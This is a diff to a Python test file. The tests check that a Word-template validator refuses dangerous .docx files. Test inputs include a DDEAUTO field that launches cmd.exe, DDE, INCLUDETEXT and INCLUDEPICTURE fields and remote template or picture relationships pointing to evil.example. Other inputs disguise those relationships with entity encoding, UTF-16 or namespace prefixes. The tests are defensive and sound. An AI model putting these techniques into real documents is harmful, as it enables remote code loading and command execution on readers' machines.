@@ -8,10 +8,13 @@ from datetime import date
 
 import pytest
 from docx import Document
+from docx.oxml import OxmlElement
+from docx.oxml.ns import qn
 
 from monitor.cqc.letter import shipped
 from monitor.cqc.reader import Reader
-from monitor.errors import TooHeavy, Unreadable
+from monitor.cqc.word_template import check
+from monitor.errors import TooHeavy, Unreadable, UsageError
 from monitor.letters import NOT_KNOWN, PLACEHOLDERS, SHIPPED, About, values
 from monitor.own_facts import OwnFacts
 
@@ -99,12 +102,29 @@ def replacing(name: str, old_text: bytes, new_text: bytes) -> Callable[[zipfile.
     return change
 
 
+def recoded(old: zipfile.ZipFile, new: zipfile.ZipFile, change: Callable[[bytes], bytes]) -> None:
+    """The relations of the document with a remote picture, changed, and in UTF-16 if they have no prefix."""
+    for one in old.namelist():
+        content = old.read(one)
+        if one == _RELS:
+            text = change(content.replace(_END, _OUTSIDE % b"image" + _END)).decode()
+            content = text.encode() if "x:" in text[:200] else text.partition("?>")[2].strip().encode("utf-16")
+        new.writestr(one, content)
+
+
+def prefixed(rels: bytes) -> bytes:
+    """The same relations with a prefix."""
+    inner = rels.partition(b"relationships\">")[2].partition(_END)[0]
+    return _PREFIXED + inner.replace(b"<Relationship", b"<x:Relationship") + b"</x:Relationships>"
+
+
 _TYPE = b"http://schemas.openxmlformats.org/x/%s"
 _OUTSIDE = b'<Relationship Id="rId99" Type="' + _TYPE + b'" Target="https://evil.example/a" TargetMode="External"/>'
 _RELS = "word/_rels/document.xml.rels"
 _END = b"</Relationships>"
 MACROS = "it holds macros or embedded files"
-LOADS = "it loads something from elsewhere"
+LOADS = "it loads something that is kept elsewhere"
+_PREFIXED = b'<x:Relationships xmlns:x="http://schemas.openxmlformats.org/package/2006/relationships">'
 NO_DOCUMENT = "it is not a Word document"
 
 
@@ -119,17 +139,70 @@ NO_DOCUMENT = "it is not a Word document"
         (changed(with_file("word/embeddings/sheet.xlsx", b"x")), MACROS),
         (changed(replacing("[Content_Types].xml", b"wordprocessingml.document.main", b"macroEnabled.main")), MACROS),
         (changed(with_file("word/media/bomb.xml", b"\0" * 30_000_000)), "it is too large when it is unpacked"),
-        (changed(replacing(_RELS, _END, _OUTSIDE % b"attachedTemplate" + _END)), LOADS),
         (changed(replacing(_RELS, _END, _OUTSIDE % b"image" + _END)), LOADS),
+        (changed(replacing(_RELS, _END, _OUTSIDE.replace(b"=\"External", b"=\"&#69;xternal") % b"image" + _END)), LOADS),
+        (changed(lambda old, new: recoded(old, new, lambda one: one)), LOADS),
+        (changed(lambda old, new: recoded(old, new, prefixed)), LOADS),
         (changed(with_file("word/document.xml", b"<w:document")), NO_DOCUMENT),
     ],
     ids=[
-        *("empty", "no zip", "pdf", "large", "macros", "embedded", "docm", "bomb", "remote template", "remote picture", "no xml"),
+        *("empty", "no zip", "pdf", "large", "macros", "embedded", "docm", "bomb", "remote picture", "as an entity"),
+        *("in UTF-16", "with a prefix", "no xml"),
     ],
 )
 def test_what_is_more_than_a_document_is_refused(template: bytes, says: str) -> None:
     with pytest.raises(Unreadable, match=says):
         letter(template)
+
+
+def test_where_a_template_was_made_from_is_taken_out() -> None:
+    template = changed(replacing(_RELS, _END, _OUTSIDE % b"attachedTemplate" + _END))
+    with zipfile.ZipFile(io.BytesIO(letter(template)[0])) as made:
+        assert not [one for one in made.namelist() if b"evil.example" in made.read(one)]
+
+
+def field(*said: str) -> bytes:
+    """A template with a field, whose instruction is divided."""
+    document = Document()
+    run = document.add_paragraph("((service))").add_run()._r
+    for one in ("begin", *said, "end"):
+        is_mark = one in ("begin", "end")
+        element = OxmlElement("w:fldChar" if is_mark else "w:instrText")
+        element.set(qn("w:fldCharType" if is_mark else "xml:space"), one if is_mark else "preserve")
+        element.text = None if is_mark else one
+        run.append(element)
+    return saved(document)
+
+
+def simple(said: str) -> bytes:
+    """The same in its short form, in a header."""
+    document = Document()
+    element = OxmlElement("w:fldSimple")
+    element.set(qn("w:instr"), said)
+    document.sections[0].header.paragraphs[0]._p.append(element)
+    return saved(document)
+
+
+@pytest.mark.parametrize(
+    ("template", "word"),
+    [
+        pytest.param(field(' DDEAUTO c:\\cmd.exe "/k calc" '), "DDEAUTO", id="runs a program"),
+        pytest.param(field(" d", "De ", "excel"), "DDE", id="divided, in small letters"),
+        pytest.param(field(" ", "begin", "QUOTE 1", "end", "DDE excel"), "DDE", id="after another one within it"),
+        pytest.param(field(' INCLUDETEXT "https://evil.example/a.docx"'), "INCLUDETEXT", id="a text"),
+        pytest.param(simple(' INCLUDEPICTURE "https://evil.example/a.png" \\d'), "INCLUDEPICTURE", id="a picture"),
+        pytest.param(field(' PAGE "DDE" '), None, id="harmless"),
+    ],
+)
+def test_a_field_that_loads_something_is_refused(template: bytes, word: str | None) -> None:
+    if word is None:
+        assert letter(template)[1]
+        check(template)
+        return
+    with pytest.raises(Unreadable, match=f"it has a field {word}, which loads"):
+        letter(template)
+    with pytest.raises(UsageError, match=f"it has a field {word}, which loads"):
+        check(template)
 
 
 def test_a_link_is_no_danger() -> None:
